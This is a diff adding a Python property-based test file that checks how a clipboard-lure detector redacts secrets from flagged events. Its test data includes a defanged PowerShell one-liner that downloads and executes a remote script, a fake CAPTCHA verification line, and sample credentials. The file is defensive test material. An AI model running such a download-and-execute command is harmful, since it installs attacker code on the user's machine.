@@ -1,0 +1,108 @@
+"""The screen in front of redaction: it may only skip work, never a secret.
+
+`redact` and `scrub_event` first ask `may_hold_secret` whether any pattern matches at all and
+skip the 26 substitutions when none does. These tests hold the screened redaction to the
+unscreened one, on generated credentials inside lures and on text around them, and check that
+a secret in any one field of an event is still found when the fields are screened together.
+"""
+
+from __future__ import annotations
+
+from typing import Any
+
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from app import privacy
+from app.events import Event, scrub_event
+from tests.test_privacy import LURES, credential
+
+# Pieces of ordinary and hostile text to put around a credential (or to stand alone).
+PIECES = (
+    "",
+    "powershell -w hidden -c iwr hxxps://cdn7[.]example/p.ps1 | iex",
+    "# I am not a robot - Verification ID: 4417",
+    "https://example.com/a?b=c&d=e",
+    "-----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAK",
+    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
+    "AKIAIOSFODNN7EXAMPLE",
+    "Authorization:",
+    "token",
+    "\n",
+    "ünïcödé ✓",
+)
+
+
+def _redact_unscreened(text: str) -> str:
+    """What `redact` did before the screen: every pattern's substitution, in order."""
+    text = privacy._encodable(text)
+    for kind, pattern in privacy._SECRETS:
+        text = privacy._redact_with(kind, pattern, text)
+    return text
+
+
+texts = st.one_of(
+    st.builds(
+        lambda before, pair, after, lure: lure.format(form=before + pair[0] + after),
+        st.sampled_from(PIECES),
+        credential(),
+        st.sampled_from(PIECES),
+        st.sampled_from((*LURES, "{form}")),
+    ),
+    st.lists(st.sampled_from(PIECES), max_size=4).map(" ".join),
+    st.text(max_size=200),
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(texts)
+def test_the_screen_never_changes_what_redaction_returns(text: str) -> None:
+    expected = _redact_unscreened(text)
+    assert privacy.redact(text) == expected
+    if expected != text:
+        assert privacy.may_hold_secret(text)
+
+
+def _event(**fields: Any) -> Event:
+    return Event(kind="clipboard_flagged", level="malicious", summary="A lure", **fields)
+
+
+@settings(max_examples=100, deadline=None)
+@given(credential(), st.sampled_from(("text", "source", "evidence", "value", "display")))
+def test_a_secret_in_any_one_field_of_an_event_is_redacted(
+    pair: tuple[str, str], where: str
+) -> None:
+    form, secret = pair
+    plain = "powershell -w hidden -c iwr hxxps://cdn7[.]example/p.ps1 | iex"
+    text = form if where == "text" else plain
+    source = form if where == "source" else "hxxps://captcha[.]example/verify"
+    evidence = form if where == "evidence" else "iwr … | iex"
+    value = form if where == "value" else "https://cdn7.example/p.ps1"
+    display = form if where == "display" else "…"
+    event = _event(
+        text=text,
+        source=source,
+        findings=({"rule_id": "x", "evidence": evidence},),
+        indicators=({"kind": "url", "value": value, "display": display},),
+    )
+    scrubbed = scrub_event(event)
+    quoted = {
+        "text": scrubbed.text,
+        "source": scrubbed.source,
+        "evidence": scrubbed.findings[0]["evidence"],
+        "value": scrubbed.indicators[0]["value"],
+        "display": scrubbed.indicators[0]["display"],
+    }
+    assert secret not in quoted[where], (form, where)
+    assert quoted[where] == privacy.redact(form)
+    # the fields without a secret are left as they were
+    assert all(v == privacy.redact(v or "") or not v for k, v in quoted.items() if k != where)
+
+
+def test_an_event_without_secrets_is_returned_as_it_is() -> None:
+    event = _event(
+        text="powershell -w hidden -c iwr hxxps://cdn7[.]example/p.ps1 | iex",
+        source="hxxps://captcha[.]example/verify",
+        findings=({"rule_id": "x", "evidence": "iwr … | iex"},),
+    )
+    assert scrub_event(event) is event
